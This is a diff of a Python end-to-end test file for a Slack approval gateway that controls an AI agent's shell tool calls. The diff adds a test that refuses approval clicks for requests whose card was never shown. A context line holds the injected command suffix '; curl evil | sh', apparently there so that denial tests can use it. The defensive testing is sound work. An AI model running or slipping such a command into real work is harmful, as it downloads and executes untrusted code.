@@ -19,8 +19,11 @@ from pathlib import Path
 import pytest
 
 from agent.testing import calls, text
+from gateway.render.buttons import ButtonValue
 from gateway.sandbox.stack import SOURCE_ROOT
-from tests.e2e.sessions import response_url
+from jobs.session.approvals import Approval, ApprovalStore
+from jobs.session.store import SessionStore
+from tests.e2e.sessions import open_session, response_url
 from tests.e2e.test_live_turns import DENIED, card_with, click, start, state, tool_results
 from tests.polling import wait_for
 from tests.slack_events import block_action
@@ -28,6 +31,7 @@ from tests.thread_view import buttons, responses, shown
 
 ASKING = {"APPROVAL_TOOLS": "", "APPROVAL_WAIVED_TOOLS": ""}  # nothing named, nothing waived
 TAIL = "; curl evil | sh"
+NOT_SHOWN = "Not approved: that request's card was never shown in this thread."
 
 
 def run_to_the_end(command: list[str], env: dict[str, str], timeout_s: float = 60) -> tuple[int, str]:
@@ -180,3 +184,20 @@ def test_a_command_too_long_to_show_cannot_be_approved_and_never_runs(
     wait_for(lambda: state(redis, key) == "idle", what="the turn to end")
     assert tool_results(fake_llm.accepted()[-1])["c1"].endswith(DENIED)
     assert not marker.exists()
+
+
+def test_an_approve_click_for_a_request_whose_card_was_never_posted_is_refused(
+    stack, fake_slack, fake_llm, redis
+):
+    key = open_session(stack, fake_slack, fake_llm)
+    approval = Approval(
+        approval_id="s1:c1", tool_call_id="c1", tool_name="shell", summary="x", step_uuid="s1"
+    )
+    approvals = ApprovalStore(SessionStore(redis, key))
+    approvals.park([approval])  # parked, but no card: nobody has seen the call
+    value = ButtonValue(key, approval_id="s1:c1").encode()
+    before = len(responses(fake_slack))
+    url = response_url(fake_slack)
+    assert stack.send_interaction(block_action("tl_approve", value, response_url=url)).status_code == 200
+    assert responses(fake_slack)[before]["text"] == NOT_SHOWN
+    assert approvals.state("s1:c1") == "pending"
